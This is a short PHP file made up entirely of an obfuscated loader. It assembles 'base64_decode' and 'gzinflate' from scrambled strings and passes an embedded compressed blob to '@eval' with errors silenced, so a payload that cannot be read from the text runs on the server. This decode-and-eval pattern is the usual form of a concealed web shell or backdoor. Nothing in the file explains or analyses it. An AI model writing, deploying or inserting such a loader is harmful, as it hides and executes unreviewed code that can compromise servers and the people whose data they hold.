<?php
$z = str_replace('%%', '', 'b%%as%%e6%%4_d%%ec%%ode');
$y = str_replace('#', '', 'gz#in#fl#ate');
@eval($y($z('y0zTyCwuTi3RUIkPcg0MdQ0OiVZPVo/V1KxOTc7IV1C3KShKtVO3Vsm3Lc5IzcmJT61ITUZXaw1WmlGSm1NckJqcmZiTnJFYVKyhkg+VUbfRh5hSm5pTnAoxuCCjIL40LzE3VUPTuhYA')));
